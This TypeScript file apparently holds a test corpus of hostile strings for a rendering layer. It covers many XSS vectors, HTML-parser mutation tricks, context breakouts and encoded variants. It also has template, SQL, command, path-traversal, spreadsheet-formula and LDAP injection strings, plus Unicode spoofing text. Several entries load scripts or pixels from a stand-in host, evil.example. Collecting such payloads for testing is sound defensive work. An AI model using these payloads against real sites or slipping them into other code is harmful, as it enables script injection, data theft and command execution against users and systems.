/**
 * Texts that try to run code, to break out of where they stand, or to deceive the eye; written for this project in the spirit of the public
 * collections. What runs would call `alert` or set `pwned`, which the visitor's traps tell. What loads would ask evil.example.
 */
export const HOSTILE_TEXTS: readonly string[] = [...new Set([...scripts(), ...handlers(), ...addresses(), ...mutations(), ...breakouts(), ...encodings(), ...templates(), ...deceptions()])];

function scripts(): string[] {
  return [
    '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<ScRiPt >alert(1)</sCrIpT >', '<script/x>alert(1)</script>', '<script\n>alert(1)</script\n>', '<script src=//evil.example/x.js></script>', '<script src="https://evil.example/x.js" async defer></script>',
    '<script type="module">alert(1)</script>', '<script type="text/babel">alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>', '<script>alert(1)', '<script>pwned=1<!--', '<script>/*<script>*/alert(1)</script>', '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"/></svg>', '<math><script>alert(1)</script></math>', '<script nomodule>alert(1)</script>', '<noscript><script>alert(1)</script></noscript>', '<script>import("//evil.example/x.js")</script>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe src="javascript:parent.alert(1)"></iframe>', '<iframe src=//evil.example></iframe>', '<object data="javascript:alert(1)"></object>', '<object data="//evil.example/x.swf"></object>', '<embed src="javascript:alert(1)">',
    '<applet code="x.class" codebase="//evil.example"></applet>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel="preload" as="script" href="//evil.example/x.js">', '<link rel=import href="//evil.example/x.html">', '<style>@import "//evil.example/x.css";</style>', '<style>*{background:url(//evil.example/x)}</style>',
    '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=//evil.example">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<portal src="//evil.example"></portal>', '<form action="//evil.example"><button>go</button></form>',
  ];
}

function handlers(): string[] {
  const made = [
    ['img src=x', 'onerror'], ['img/src=x/', 'onerror'], ['image src=x', 'onerror'], ['svg', 'onload'], ['svg/', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['video src=x', 'onerror'], ['video><source', 'onerror'], ['audio src=x', 'onerror'],
    ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['details open', 'ontoggle'], ['marquee', 'onstart'], ['p style="animation:x"', 'onanimationstart'], ['div style="position:fixed;inset:0"', 'onpointerenter'],
    ['a href=# autofocus', 'onfocus'], ['iframe src=about:blank', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['script src=x', 'onerror'], ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x dur=1s', 'onbegin'],
    ['math', 'onclick'], ['table background=x', 'onmouseover'], ['x-tag tabindex=1 autofocus', 'onfocus'], ['keygen autofocus', 'onfocus'], ['dialog open', 'onclose'], ['div popover', 'onbeforetoggle'], ['input type=image src=x', 'onerror'], ['track src=x', 'onerror'], ['frameset', 'onload'],
  ] as const;
  return made.flatMap(([tag, handler], at) => [`<${tag} ${handler}=alert(${at})>`, ...(at % 3 === 0 ? [`<${tag} ${handler.toUpperCase()}="pwned=${at}">`] : []), ...(at % 4 === 0 ? [`<${tag}\n${handler}\n=\n'alert(${at})'//`] : [])]);
}

function addresses(): string[] {
  return [
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', 'javascript://%0aalert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '<a href="javascript:alert(1)">apply here</a>', '<a href=" javascript:alert(1)">apply here</a>', '<a href="jav&#x09;ascript:alert(1)">apply here</a>', '<a href="data:text/html,<script>alert(1)</script>">apply here</a>', '<a href=//evil.example target=_self>apply here</a>', '<a href="\\\\evil.example">apply here</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>apply</text></a></svg>', '<math><a href="javascript:alert(1)">apply</a></math>', '<area href="javascript:alert(1)" shape=default>', '<form><button formaction="javascript:alert(1)">apply</button></form>', '<isindex action="javascript:alert(1)">',
    '[apply](javascript:alert(1))', '![x](https://evil.example/pixel.png)', '<javascript:alert(1)>', '<img src="https://evil.example/pixel.gif" width=1>', '<img srcset="//evil.example/a 1x">', '<picture><source srcset=//evil.example/a></picture>', '<video poster=//evil.example/a>', '<body background=//evil.example/a>',
    '<input type=image src=//evil.example/a>', '<svg><image href=//evil.example/a /></svg>', '<svg><use href="//evil.example/a#x"/></svg>', '<p style="background:url(//evil.example/a)">x</p>', '<q cite=//evil.example/a>x</q>', '<a ping=//evil.example/a href=/>x</a>',
  ];
}

function mutations(): string[] {
  return [
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<svg><style><img src="</style><img src=x onerror=alert(1)>">', '<template><style></template><img src=x onerror=alert(1)></style>', '<select><template><img src=x onerror=alert(1)></template></select>',
    '<table><td><svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><desc><table><td></desc><script>alert(1)</script>', '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>', '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title></title><img src=x onerror=alert(1)>', '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>', '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>', '<!--><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>', '<!-- --!><img src=x onerror=alert(1)>', '<?xml ?><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>', '<b><p><b></p><img src=x onerror=alert(1)></b>', '<form id=x></form><input form=x name=attributes>', '<img name=getElementById src=data:,>', '<a id=hydrate><a id=hydrate name=queries>',
  ];
}

function breakouts(): string[] {
  return [
    '</script><script>alert(1)</script>', '</SCRIPT ><img src=x onerror=alert(1)>', '</script foo><svg onload=alert(1)>', '"></script><svg onload=alert(1)>', '<!--<script>', '<!--<script>alert(1)//--></script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="', "' autofocus onfocus='alert(1)", '`onmouseover=alert(1)`', '"/><script>alert(1)</script>', '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</main></body></html><script>alert(1)</script>', '<!--head--><script>alert(1)</script>', '<!--island-->', '<!--body-->',
    '"}]}</script><script>alert(1)</script>', '\\"}];alert(1);//', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '\\x3cscript\\x3ealert(1)', '\u2028alert(1)\u2029', '$& $` $1 $$', '__proto__', 'constructor', '{"__proto__":{"pwned":1}}',
  ];
}

function encodings(): string[] {
  return [
    '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&#x3c;img src=x onerror=alert(1)&#x3e;', '%3Cscript%3Ealert(1)%3C/script%3E', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '\u02c2script\u02c3alert(1)',
    '<\u0000script>alert(1)</script>', '<scr\u0000ipt>alert(1)</script>', '<img src=x o\u0000nerror=alert(1)>', '<img\u000bsrc=x\u000bonerror=alert(1)>', '<img\u00a0src=x\u00a0onerror=alert(1)>', '<script\u3000>alert(1)</script>', '\ufeff<script>alert(1)</script>', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '<a\u200bhref=javascript:alert(1)>x</a>',
  ];
}

function templates(): string[] {
  return [
    '{{constructor.constructor("alert(1)")()}}', '{{7*7}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{%raw%}{{pwned}}{%endraw%}', '[[${alert(1)}]]', '{{{alert(1)}}}', '@{alert(1)}', '<x v-html="alert(1)">', '<div ng-app>{{$eval.constructor("alert(1)")()}}</div>', '<p :x="alert(1)">', '<p x-data x-init="alert(1)">', '{{count}}', '$t(brand)', '{{title}} $t(nav.name)',
    '={cmd|" /C calc"!A0}', '@SUM(1+1)*cmd', "' OR 1=1 --", "'; DROP TABLE vacancies; --", '%s%n%p', '../../../../etc/passwd', '$(touch /tmp/x)', '`id`', '{"$gt":""}', '*)(uid=*', 'a\\', '\\',
  ];
}

function deceptions(): string[] {
  return [
    '\u202etxet desrever\u202c', 'pay \u2066\u202e0002 \u2069euro', 'in\u200bvis\u200dible', 'soft\u00adhy\u00adphen', 'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307 stacked', 'p\u0430yp\u0430l look-alike', '\u1d5aba\u1d5ca', '\u{e0041}\u{e0042}tags', 'emoji \u{1f468}\u200d\u{1f469}\u200d\u{1f467} family', '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 right to left', '\ufdfd', 'Z\u0351\u036b\u0343a\u0362l\u0355g\u030ao',
  ];
}

/** A text as everybody can compare it: without white space and characters that cannot be seen. */
export function seen(text: string): string {
  return text.replace(/[\s\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, '');
}
